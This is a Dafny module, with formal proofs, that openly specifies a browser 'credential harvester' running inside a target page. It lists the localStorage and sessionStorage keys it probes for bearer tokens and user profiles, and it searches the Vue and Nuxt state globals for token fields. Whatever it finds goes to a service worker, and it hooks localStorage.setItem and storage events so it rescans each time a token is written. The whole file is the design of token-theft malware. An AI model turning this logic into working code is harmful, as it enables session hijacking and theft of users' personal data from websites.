/**
 * The credential harvester that runs inside the target page: it probes a
 * fixed list of storage keys, then the framework globals, for a bearer
 * token; attaches a user profile when one is stored; and posts what it
 * finds to the service worker, again whenever a watched key is written.
 */
module Harvester {
  import opened Wrappers
  import opened Text
  import opened Json
  import opened Messages

  /** Storage keys probed for a token, in priority order. */
  const TOKEN_KEYS: seq<string> := ["token", "access_token", "accessToken", "auth_token", "authToken",
                                     "jwt", "jwtToken", "bearer_token", "bearerToken"]

  /** Storage keys probed for a user profile, in priority order. */
  const USER_KEYS: seq<string> := ["user", "userInfo", "user_info", "currentUser", "profile", "me"]

  /** Members of a JSON-encoded stored value that may hold the token, in priority order. */
  const VALUE_TOKEN_FIELDS: seq<string> := ["token", "access_token", "accessToken", "jwt", "value"]

  /** Member names the search through page globals accepts a token under. */
  const OBJECT_TOKEN_FIELDS: seq<string> := ["token", "access_token", "accessToken", "jwt", "bearer"]

  /** The search through page globals stops below this depth. */
  const MAX_DEPTH: nat := 5

  /** A candidate token found in page globals must be longer than this. */
  const MIN_TOKEN_LENGTH: nat := 20

  /** `JSON.parse`, with `None` where it throws. */
  type Parser = string -> Option<Json>

  /** A Web Storage area (`localStorage` or `sessionStorage`): `getItem` is lookup. */
  type WebStorage = map<string, string>

  /** `storage.getItem(key)` is a non-empty string (absent keys read as `null`). */
  predicate HasValue(storage: WebStorage, key: string)
  {
    key in storage && storage[key] != ""
  }

  /** The index of the first key satisfying `p`, or `|keys|` when none does. */
  function FirstIndex(keys: seq<string>, p: string -> bool): (i: nat)
    ensures i <= |keys|
    ensures forall j :: 0 <= j < i ==> !p(keys[j])
    ensures i < |keys| ==> p(keys[i])
  {
    if keys == [] then 0
    else if p(keys[0]) then 0
    else 1 + FirstIndex(keys[1..], p)
  }

  // ---------------------------------------------------------------------------
  // parseTokenValue

  /** `parsed.expiry || parsed.exp || parsed.expires_at || null`. */
  function ExpiryOf(v: Json): Json
  {
    FirstTruthy(v, ["expiry", "exp", "expires_at"])
  }

  /**
   * Interprets a stored value that may be JSON. `parsed` is what
   * `JSON.parse(value)` gave, or `None` where it threw.
   */
  function ParseTokenValue(value: string, parsed: Option<Json>): (r: TokenData)
    ensures r.userInfo.None?
    // not JSON: the raw text is the token
    ensures parsed.None? ==> r == TokenData(JStr(value), JNull, None)
    // JSON, but not an object: the parsed value itself is the token
    ensures parsed.Some? && !IsObject(parsed.value) ==> r == TokenData(parsed.value, JNull, None)
    // an object with no truthy token member: the raw text is the token
    ensures parsed.Some? && IsObject(parsed.value) &&
            (forall k :: k in VALUE_TOKEN_FIELDS ==> !TruthyMember(parsed.value, k)) ==>
              r == TokenData(JStr(value), JNull, None)
    // otherwise: the first truthy token member, in priority order
    ensures parsed.Some? && IsObject(parsed.value) &&
            (exists k :: k in VALUE_TOKEN_FIELDS && TruthyMember(parsed.value, k)) ==>
              exists i :: 0 <= i < |VALUE_TOKEN_FIELDS| &&
                TruthyMember(parsed.value, VALUE_TOKEN_FIELDS[i]) &&
                (forall j :: 0 <= j < i ==> !TruthyMember(parsed.value, VALUE_TOKEN_FIELDS[j])) &&
                r == TokenData(Get(parsed.value, VALUE_TOKEN_FIELDS[i]).value, ExpiryOf(parsed.value), None)
  {
    match parsed
    case None => TokenData(JStr(value), JNull, None)
    case Some(v) =>
      if IsObject(v) then
        var i := FirstIndex(VALUE_TOKEN_FIELDS, k => TruthyMember(v, k));
        if i < |VALUE_TOKEN_FIELDS| then TokenData(Get(v, VALUE_TOKEN_FIELDS[i]).value, ExpiryOf(v), None)
        else TokenData(JStr(value), JNull, None)
      else TokenData(v, JNull, None)
  }

  // ---------------------------------------------------------------------------
  // findTokenInLocalStorage / findTokenInSessionStorage

  /**
   * The storage probe: the parsed value of the first key of `TOKEN_KEYS`
   * holding a non-empty value, or `None` if no key does.
   */
  function ProbeStorage(storage: WebStorage, parse: Parser): (r: Option<TokenData>)
    ensures r.None? <==> forall j :: 0 <= j < |TOKEN_KEYS| ==> !HasValue(storage, TOKEN_KEYS[j])
    ensures r.Some? ==>
              exists i :: 0 <= i < |TOKEN_KEYS| && HasValue(storage, TOKEN_KEYS[i]) &&
                (forall j :: 0 <= j < i ==> !HasValue(storage, TOKEN_KEYS[j])) &&
                r.value == ParseTokenValue(storage[TOKEN_KEYS[i]], parse(storage[TOKEN_KEYS[i]]))
  {
    var i := FirstIndex(TOKEN_KEYS, k => HasValue(storage, k));
    assert forall j :: 0 <= j < i ==> !HasValue(storage, TOKEN_KEYS[j]);
    if i < |TOKEN_KEYS| then
      var value := storage[TOKEN_KEYS[i]];
      Some(ParseTokenValue(value, parse(value)))
    else None
  }

  /** The key loop with early return shared by both storage areas. */
  method FindTokenInStorage(storage: WebStorage, parse: Parser) returns (r: Option<TokenData>)
    ensures r == ProbeStorage(storage, parse)
  {
    var n := 0;
    while n < |TOKEN_KEYS|
      invariant 0 <= n <= |TOKEN_KEYS|
      invariant forall j :: 0 <= j < n ==> !HasValue(storage, TOKEN_KEYS[j])
    {
      var key := TOKEN_KEYS[n];
      if key in storage && storage[key] != "" {
        var value := storage[key];
        ProbeFindsFirstKey(storage, parse, n);
        return Some(ParseTokenValue(value, parse(value)));
      }
      n := n + 1;
    }
    return None;
  }

  /** The probe's answer when `TOKEN_KEYS[n]` is the first key holding a value. */
  lemma ProbeFindsFirstKey(storage: WebStorage, parse: Parser, n: nat)
    requires n < |TOKEN_KEYS| && HasValue(storage, TOKEN_KEYS[n])
    requires forall j :: 0 <= j < n ==> !HasValue(storage, TOKEN_KEYS[j])
    ensures ProbeStorage(storage, parse) ==
            Some(ParseTokenValue(storage[TOKEN_KEYS[n]], parse(storage[TOKEN_KEYS[n]])))
  {
    var i := FirstIndex(TOKEN_KEYS, k => HasValue(storage, k));
    assert i == n;
  }

  // ---------------------------------------------------------------------------
  // findTokenInObject

  /** How many more levels the search may enter from `depth`. */
  function Budget(depth: nat): nat
  {
    if depth > MAX_DEPTH then 0 else MAX_DEPTH + 1 - depth
  }

  /** A member that is accepted as a token: a long enough string under a token member name. */
  predicate IsTokenEntry(e: (string, Json))
  {
    e.0 in OBJECT_TOKEN_FIELDS && e.1.JStr? && |e.1.s| > MIN_TOKEN_LENGTH
  }

  /**
   * `findTokenInObject(obj, depth)`: the first accepted token in key order,
   * a member's own value checked before the search descends into it.
   */
  function FindTokenInObject(obj: Json, depth: nat): (r: Option<string>)
    ensures depth > MAX_DEPTH || !IsObject(obj) ==> r.None?
    ensures r.Some? ==> |r.value| > MIN_TOKEN_LENGTH
    decreases Budget(depth), 1, 0
  {
    if depth > MAX_DEPTH || !IsObject(obj) then None
    else FindFrom(obj, 0, depth)
  }

  /** The `for (const key of Object.keys(obj))` loop of `findTokenInObject`, from the `i`-th key on. */
  function FindFrom(obj: Json, i: nat, depth: nat): (r: Option<string>)
    requires depth <= MAX_DEPTH
    ensures r.Some? ==> |r.value| > MIN_TOKEN_LENGTH
    decreases Budget(depth), 0, |Entries(obj)| - i
  {
    var es := Entries(obj);
    if i >= |es| then None
    else if IsTokenEntry(es[i]) then Some(es[i].1.s)
    else if TypeofObject(es[i].1) then
      match FindTokenInObject(es[i].1, depth + 1)
      case Some(t) => Some(t)
      case None => FindFrom(obj, i + 1, depth)
    else FindFrom(obj, i + 1, depth)
  }

  /** The member reached by following entry indices from `obj`. */
  function EntryAt(obj: Json, path: seq<nat>): Option<(string, Json)>
    decreases |path|
  {
    if path == [] || path[0] >= |Entries(obj)| then None
    else if |path| == 1 then Some(Entries(obj)[path[0]])
    else EntryAt(Entries(obj)[path[0]].1, path[1..])
  }

  /** An accepted token, where it is (entry indices from the root) and its member name. */
  datatype Hit = Hit(path: seq<nat>, key: string, token: string)

  /** `h` names an accepted token that really sits at `h.path`, within the depth limit. */
  predicate ValidHit(obj: Json, h: Hit, depth: nat)
  {
    && |h.token| > MIN_TOKEN_LENGTH
    && h.key in OBJECT_TOKEN_FIELDS
    && 1 <= |h.path| <= Budget(depth)
    && EntryAt(obj, h.path) == Some((h.key, JStr(h.token)))
  }

  /** The hits found below entry `i`, their paths extended by `i`. */
  function Under(i: nat, hs: seq<Hit>): (r: seq<Hit>)
    ensures |r| == |hs|
    ensures forall k :: 0 <= k < |r| ==> r[k] == Hit([i] + hs[k].path, hs[k].key, hs[k].token)
  {
    seq(|hs|, k requires 0 <= k < |hs| => Hit([i] + hs[k].path, hs[k].key, hs[k].token))
  }

  /**
   * Every accepted token reachable from `obj` within the depth limit, in
   * depth-first pre-order: the reference the search is measured against.
   */
  function Candidates(obj: Json, depth: nat): (hs: seq<Hit>)
    ensures forall h :: h in hs ==> ValidHit(obj, h, depth)
    decreases Budget(depth), 1, 0
  {
    if depth > MAX_DEPTH || !IsObject(obj) then []
    else CandidatesFrom(obj, 0, depth)
  }

  function CandidatesFrom(obj: Json, i: nat, depth: nat): (hs: seq<Hit>)
    requires depth <= MAX_DEPTH
    ensures forall h :: h in hs ==> ValidHit(obj, h, depth)
    decreases Budget(depth), 0, |Entries(obj)| - i
  {
    var es := Entries(obj);
    if i >= |es| then []
    else
      var rest := CandidatesFrom(obj, i + 1, depth);
      if IsTokenEntry(es[i]) then
        [Hit([i], es[i].0, es[i].1.s)] + rest
      else if TypeofObject(es[i].1) then
        var below := Candidates(es[i].1, depth + 1);
        forall k | 0 <= k < |below| ensures ValidHit(obj, Under(i, below)[k], depth) {
          var h := below[k];
          assert h in below;
          var path := [i] + h.path;
          assert path[1..] == h.path;
          assert EntryAt(obj, path) == EntryAt(es[i].1, h.path);
        }
        Under(i, below) + rest
      else rest
  }

  /** The token of the first hit, if any. */
  function FirstToken(hs: seq<Hit>): Option<string>
  {
    if hs == [] then None else Some(hs[0].token)
  }

  /**
   * The search returns the token of the first entry of `Candidates`: the
   * first accepted token in depth-first pre-order.
   */
  lemma {:induction false} FindIsFirstCandidate(obj: Json, depth: nat)
    ensures FindTokenInObject(obj, depth) == FirstToken(Candidates(obj, depth))
    decreases Budget(depth), 1, 0
  {
    if depth <= MAX_DEPTH && IsObject(obj) {
      FindFromIsFirstCandidate(obj, 0, depth);
    }
  }

  lemma {:induction false} FindFromIsFirstCandidate(obj: Json, i: nat, depth: nat)
    requires depth <= MAX_DEPTH
    ensures FindFrom(obj, i, depth) == FirstToken(CandidatesFrom(obj, i, depth))
    decreases Budget(depth), 0, |Entries(obj)| - i
  {
    var es := Entries(obj);
    if i < |es| && !IsTokenEntry(es[i]) {
      FindFromIsFirstCandidate(obj, i + 1, depth);
      if TypeofObject(es[i].1) {
        FindIsFirstCandidate(es[i].1, depth + 1);
        DescentIsFirstCandidate(obj, i, depth);
      } else {
        SkipIsFirstCandidate(obj, i, depth);
      }
    } else {
      StopIsFirstCandidate(obj, i, depth);
    }
  }

  /** At the end of the keys, or at an accepted member, the search and the candidates agree. */
  lemma StopIsFirstCandidate(obj: Json, i: nat, depth: nat)
    requires depth <= MAX_DEPTH && (i < |Entries(obj)| ==> IsTokenEntry(Entries(obj)[i]))
    ensures FindFrom(obj, i, depth) == FirstToken(CandidatesFrom(obj, i, depth))
  {
  }

  /** The step of `FindFromIsFirstCandidate` for a member the search descends into. */
  lemma DescentIsFirstCandidate(obj: Json, i: nat, depth: nat)
    requires depth <= MAX_DEPTH && i < |Entries(obj)|
    requires !IsTokenEntry(Entries(obj)[i]) && TypeofObject(Entries(obj)[i].1)
    requires FindTokenInObject(Entries(obj)[i].1, depth + 1) == FirstToken(Candidates(Entries(obj)[i].1, depth + 1))
    requires FindFrom(obj, i + 1, depth) == FirstToken(CandidatesFrom(obj, i + 1, depth))
    ensures FindFrom(obj, i, depth) == FirstToken(CandidatesFrom(obj, i, depth))
  {
    var below := Candidates(Entries(obj)[i].1, depth + 1);
    var rest := CandidatesFrom(obj, i + 1, depth);
    assert FirstToken(Under(i, below) + rest) == if below == [] then FirstToken(rest) else FirstToken(below);
  }

  /** A member that is neither a token nor an object: the search and the candidates move on alike. */
  lemma SkipIsFirstCandidate(obj: Json, i: nat, depth: nat)
    requires depth <= MAX_DEPTH && i < |Entries(obj)|
    requires !IsTokenEntry(Entries(obj)[i]) && !TypeofObject(Entries(obj)[i].1)
    requires FindFrom(obj, i + 1, depth) == FirstToken(CandidatesFrom(obj, i + 1, depth))
    ensures FindFrom(obj, i, depth) == FirstToken(CandidatesFrom(obj, i, depth))
  {
  }

  /** `Candidates` is complete: every accepted token reachable within the depth limit is listed. */
  lemma {:induction false} HitIsListed(obj: Json, h: Hit, depth: nat)
    requires ValidHit(obj, h, depth)
    ensures h in Candidates(obj, depth)
    decreases Budget(depth), 1, 0, 0
  {
    assert depth <= MAX_DEPTH && IsObject(obj);
    HitIsListedFrom(obj, 0, h, depth);
  }

  lemma {:induction false} HitIsListedFrom(obj: Json, i: nat, h: Hit, depth: nat)
    requires depth <= MAX_DEPTH && ValidHit(obj, h, depth) && i <= h.path[0]
    ensures h in CandidatesFrom(obj, i, depth)
    decreases Budget(depth), 0, |Entries(obj)| - i, 1
  {
    var es := Entries(obj);
    assert i < |es|;
    if i < h.path[0] {
      HitIsListedFrom(obj, i + 1, h, depth);
    } else if |h.path| == 1 {
      assert es[i] == (h.key, JStr(h.token));
      assert IsTokenEntry(es[i]);
      assert h.path == [i];
      assert h == Hit([i], es[i].0, es[i].1.s);
    } else {
      HitBelowIsListed(obj, i, h, depth);
    }
  }

  /** A hit below the `i`-th member is listed among that member's hits, re-rooted under `i`. */
  lemma {:induction false} HitBelowIsListed(obj: Json, i: nat, h: Hit, depth: nat)
    requires depth <= MAX_DEPTH && ValidHit(obj, h, depth) && i == h.path[0] && |h.path| > 1
    ensures h in CandidatesFrom(obj, i, depth)
    decreases Budget(depth), 0, |Entries(obj)| - i, 0
  {
    var es := Entries(obj);
    var child := es[i].1;
    var inner := Hit(h.path[1..], h.key, h.token);
    assert EntryAt(child, inner.path) == EntryAt(obj, h.path);
    assert IsObject(child);
    HitIsListed(child, inner, depth + 1);
    var below := Candidates(child, depth + 1);
    var k :| 0 <= k < |below| && below[k] == inner;
    assert Under(i, below)[k] == h;
  }

  /** The search succeeds exactly when some accepted token is reachable within the depth limit. */
  lemma FindSucceedsIffReachable(obj: Json, depth: nat)
    ensures FindTokenInObject(obj, depth).Some? <==> exists h :: ValidHit(obj, h, depth)
  {
    FindIsFirstCandidate(obj, depth);
    var hs := Candidates(obj, depth);
    if hs != [] {
      assert ValidHit(obj, hs[0], depth);
    }
    if h :| ValidHit(obj, h, depth) {
      HitIsListed(obj, h, depth);
    }
  }

  /** A found token is stored, under a token member name, at most six levels below the root. */
  lemma FoundTokenIsStored(obj: Json, t: string)
    requires FindTokenInObject(obj, 0) == Some(t)
    ensures exists h :: ValidHit(obj, h, 0) && h.token == t && |h.path| <= MAX_DEPTH + 1
  {
    FindIsFirstCandidate(obj, 0);
    var h := Candidates(obj, 0)[0];
    assert ValidHit(obj, h, 0);
  }

  // ---------------------------------------------------------------------------
  // findTokenInWindow

  /**
   * The framework globals: `window.__INITIAL_STATE__`, then `window.__NUXT__`
   * (`None` for `undefined`). A global is searched only when it is truthy.
   */
  function FindTokenInWindow(initialState: Option<Json>, nuxt: Option<Json>): (r: Option<TokenData>)
    ensures r.Some? ==> r.value.expiry == JNull && r.value.userInfo.None? &&
                        r.value.token.JStr? && |r.value.token.s| > MIN_TOKEN_LENGTH
    ensures TruthyOpt(initialState) && FindTokenInObject(initialState.value, 0).Some? ==>
              r == Some(TokenData(JStr(FindTokenInObject(initialState.value, 0).value), JNull, None))
    ensures (!TruthyOpt(initialState) || FindTokenInObject(initialState.value, 0).None?) &&
            TruthyOpt(nuxt) && FindTokenInObject(nuxt.value, 0).Some? ==>
              r == Some(TokenData(JStr(FindTokenInObject(nuxt.value, 0).value), JNull, None))
    ensures r.None? <==> (!TruthyOpt(initialState) || FindTokenInObject(initialState.value, 0).None?) &&
                         (!TruthyOpt(nuxt) || FindTokenInObject(nuxt.value, 0).None?)
  {
    var fromState := if TruthyOpt(initialState) then FindTokenInObject(initialState.value, 0) else None;
    if fromState.Some? then Some(TokenData(JStr(fromState.value), JNull, None))
    else
      var fromNuxt := if TruthyOpt(nuxt) then FindTokenInObject(nuxt.value, 0) else None;
      if fromNuxt.Some? then Some(TokenData(JStr(fromNuxt.value), JNull, None))
      else None
  }

  // ---------------------------------------------------------------------------
  // findUserInfo

  /** `localStorage.getItem(key)` is non-empty and parses to a non-null object. */
  predicate HoldsProfile(local: WebStorage, parse: Parser, key: string)
  {
    HasValue(local, key) && parse(local[key]).Some? && IsObject(parse(local[key]).value)
  }

  /**
   * The profile probe: the parsed value of the first key of `USER_KEYS`
   * whose value parses to an object; unparsable and primitive values are skipped.
   */
  function ProbeProfile(local: WebStorage, parse: Parser): (r: Option<Json>)
    ensures r.None? <==> forall j :: 0 <= j < |USER_KEYS| ==> !HoldsProfile(local, parse, USER_KEYS[j])
    ensures r.Some? ==>
              IsObject(r.value) &&
              exists i :: 0 <= i < |USER_KEYS| && HoldsProfile(local, parse, USER_KEYS[i]) &&
                (forall j :: 0 <= j < i ==> !HoldsProfile(local, parse, USER_KEYS[j])) &&
                r == parse(local[USER_KEYS[i]])
  {
    var i := FirstIndex(USER_KEYS, k => HoldsProfile(local, parse, k));
    if i < |USER_KEYS| then parse(local[USER_KEYS[i]]) else None
  }

  method FindUserInfo(local: WebStorage, parse: Parser) returns (r: Option<Json>)
    ensures r == ProbeProfile(local, parse)
  {
    var n := 0;
    while n < |USER_KEYS|
      invariant 0 <= n <= |USER_KEYS|
      invariant forall j :: 0 <= j < n ==> !HoldsProfile(local, parse, USER_KEYS[j])
    {
      var key := USER_KEYS[n];
      if key in local && local[key] != "" {
        var parsed := parse(local[key]);
        if parsed.Some? && IsObject(parsed.value) {
          return parsed;
        }
      }
      n := n + 1;
    }
    return None;
  }

  // ---------------------------------------------------------------------------
  // findAndSendToken

  /** The discovery without the profile: the first source that yields anything. */
  function FirstSource(local: WebStorage, session: WebStorage, initialState: Option<Json>,
                       nuxt: Option<Json>, parse: Parser): Option<TokenData>
  {
    var fromLocal := ProbeStorage(local, parse);
    if fromLocal.Some? then fromLocal
    else
      var fromSession := ProbeStorage(session, parse);
      if fromSession.Some? then fromSession
      else FindTokenInWindow(initialState, nuxt)
  }

  /** What one run of `findAndSendToken` returns: the first discovery, with the profile attached. */
  function Discover(local: WebStorage, session: WebStorage, initialState: Option<Json>,
                    nuxt: Option<Json>, parse: Parser): Option<TokenData>
  {
    Attach(FirstSource(local, session, initialState, nuxt, parse), ProbeProfile(local, parse))
  }

  /** `if (tokenData && userInfo) tokenData.userInfo = userInfo`. */
  function Attach(found: Option<TokenData>, userInfo: Option<Json>): Option<TokenData>
  {
    if found.Some? && userInfo.Some? then Some(found.value.(userInfo := userInfo)) else found
  }

  /**
   * The sources are consulted in the order localStorage, sessionStorage,
   * page globals, each only when the ones before yielded nothing; the
   * profile from localStorage is attached to whatever was found.
   */
  lemma DiscoveryOrder(local: WebStorage, session: WebStorage, initialState: Option<Json>,
                       nuxt: Option<Json>, parse: Parser)
    ensures var r := Discover(local, session, initialState, nuxt, parse);
            && (ProbeStorage(local, parse).Some? ==>
                  r.Some? && r.value.(userInfo := None) == ProbeStorage(local, parse).value)
            && (ProbeStorage(local, parse).None? && ProbeStorage(session, parse).Some? ==>
                  r.Some? && r.value.(userInfo := None) == ProbeStorage(session, parse).value)
            && (ProbeStorage(local, parse).None? && ProbeStorage(session, parse).None? ==>
                  (r.None? <==> FindTokenInWindow(initialState, nuxt).None?) &&
                  (r.Some? ==> r.value.(userInfo := None) == FindTokenInWindow(initialState, nuxt).value))
            && (r.Some? ==> r.value.userInfo == ProbeProfile(local, parse))
  {
    FirstSourceOrder(local, session, initialState, nuxt, parse);
    ProfileAttached(FirstSource(local, session, initialState, nuxt, parse), ProbeProfile(local, parse));
  }

  /** The source order itself, before the profile is attached; a source never yields a profile. */
  lemma FirstSourceOrder(local: WebStorage, session: WebStorage, initialState: Option<Json>,
                         nuxt: Option<Json>, parse: Parser)
    ensures var f := FirstSource(local, session, initialState, nuxt, parse);
            && (ProbeStorage(local, parse).Some? ==> f == ProbeStorage(local, parse))
            && (ProbeStorage(local, parse).None? && ProbeStorage(session, parse).Some? ==>
                  f == ProbeStorage(session, parse))
            && (ProbeStorage(local, parse).None? && ProbeStorage(session, parse).None? ==>
                  f == FindTokenInWindow(initialState, nuxt))
            && (f.Some? ==> f.value.userInfo.None?)
  {
  }

  /** Attaching the profile touches only the profile, and only of a discovery. */
  lemma ProfileAttached(found: Option<TokenData>, userInfo: Option<Json>)
    requires found.Some? ==> found.value.userInfo.None?
    ensures var r := Attach(found, userInfo);
            && (r.None? <==> found.None?)
            && (r.Some? ==> r.value.(userInfo := None) == found.value && r.value.userInfo == userInfo)
  {
  }

  /** Writing to `key` triggers a rescan only for the token and profile keys. */
  predicate IsWatched(key: string)
  {
    key in TOKEN_KEYS || key in USER_KEYS
  }

  /**
   * The page: its two storage areas, the framework globals and the
   * messages posted to the service worker so far.
   */
  class Page {
    var local: WebStorage
    var session: WebStorage
    var initialState: Option<Json>
    var nuxt: Option<Json>
    var sent: seq<TokenData>
    const parse: Parser

    constructor (local: WebStorage, session: WebStorage, initialState: Option<Json>,
                 nuxt: Option<Json>, parse: Parser)
      ensures this.local == local && this.session == session
      ensures this.initialState == initialState && this.nuxt == nuxt && this.parse == parse
      ensures sent == []
    {
      this.local := local;
      this.session := session;
      this.initialState := initialState;
      this.nuxt := nuxt;
      this.parse := parse;
      sent := [];
    }

    /** What a scan of the page finds now. */
    function Discovered(): Option<TokenData>
      reads this`local, this`session, this`initialState, this`nuxt
    {
      Discover(local, session, initialState, nuxt, parse)
    }

    /** Posts a `TOKEN_UPDATE` unless there is no discovery or its token is falsy. */
    method SendTokenToBackground(tokenData: Option<TokenData>)
      modifies this`sent
      ensures sent == old(sent) + Dispatch(tokenData)
    {
      if tokenData.None? || !Truthy(tokenData.value.token) {
        return;
      }
      sent := sent + [tokenData.value];
    }

    /** Scans every source in priority order, attaches the profile and posts the result. */
    method FindAndSendToken() returns (tokenData: Option<TokenData>)
      modifies this`sent
      ensures tokenData == Discovered()
      ensures sent == old(sent) + Dispatch(tokenData)
    {
      tokenData := ScanPage();
      SendTokenToBackground(tokenData);
    }

    /** The lookups of `findAndSendToken` and the attachment of the stored profile. */
    method ScanPage() returns (tokenData: Option<TokenData>)
      ensures tokenData == Discovered()
    {
      tokenData := ScanSources();
      var userInfo := FindUserInfo(local, parse);
      if tokenData.Some? && userInfo.Some? {
        tokenData := Some(tokenData.value.(userInfo := userInfo));
      }
    }

    /** The three lookups of `findAndSendToken`, each tried only when the ones before found nothing. */
    method ScanSources() returns (tokenData: Option<TokenData>)
      ensures tokenData == FirstSource(local, session, initialState, nuxt, parse)
    {
      tokenData := FindTokenInStorage(local, parse);
      if tokenData.None? {
        tokenData := FindTokenInStorage(session, parse);
      }
      if tokenData.None? {
        tokenData := FindTokenInWindow(initialState, nuxt);
      }
    }

    /** The overridden `localStorage.setItem`: the write first, then a rescan for watched keys. */
    method SetItem(key: string, value: string)
      modifies this`local, this`sent
      ensures local == old(local)[key := value]
      ensures sent == old(sent) + (if IsWatched(key) then Dispatch(Discovered()) else [])
    {
      local := local[key := value];
      if key in TOKEN_KEYS || key in USER_KEYS {
        var _ := FindAndSendToken();
      }
    }

    /** A `storage` event (a write from another document, already applied to `local`). */
    method OnStorageEvent(key: string)
      modifies this`sent
      ensures sent == old(sent) + (if IsWatched(key) then Dispatch(Discovered()) else [])
    {
      if key in TOKEN_KEYS || key in USER_KEYS {
        var _ := FindAndSendToken();
      }
    }
  }

  // ---------------------------------------------------------------------------
  // Properties of the source order

  /** When localStorage yields anything, sessionStorage and the globals do not matter. */
  lemma LocalShadowsLaterSources(local: WebStorage, s1: WebStorage, s2: WebStorage,
                                 i1: Option<Json>, i2: Option<Json>, n1: Option<Json>, n2: Option<Json>,
                                 parse: Parser)
    requires ProbeStorage(local, parse).Some?
    ensures Discover(local, s1, i1, n1, parse) == Discover(local, s2, i2, n2, parse)
  {
  }

  /** A value under `token`, the first of the token keys, is the one the storage probe interprets. */
  lemma FirstTokenKeyWins(storage: WebStorage, parse: Parser)
    requires HasValue(storage, "token")
    ensures ProbeStorage(storage, parse) == Some(ParseTokenValue(storage["token"], parse(storage["token"])))
  {
    assert TOKEN_KEYS[0] == "token";
    var p := k => HasValue(storage, k);
    assert FirstIndex(TOKEN_KEYS, p) == 0;
  }

  /**
   * A token key whose value parses to a falsy primitive (the text `null`,
   * `0`, `false` or `""`) still counts as found: the later sources are not
   * consulted, and since the token is falsy nothing is posted.
   */
  lemma FalsyStoredTokenBlocksFallback(local: WebStorage, session: WebStorage, initialState: Option<Json>,
                                       nuxt: Option<Json>, parse: Parser)
    requires HasValue(local, "token")
    requires parse(local["token"]).Some? && !IsObject(parse(local["token"]).value) &&
             !Truthy(parse(local["token"]).value)
    ensures Discover(local, session, initialState, nuxt, parse) ==
            Some(TokenData(parse(local["token"]).value, JNull, ProbeProfile(local, parse)))
    ensures Dispatch(Discover(local, session, initialState, nuxt, parse)) == []
  {
    FirstTokenKeyWins(local, parse);
    DiscoveryOrder(local, session, initialState, nuxt, parse);
  }
}
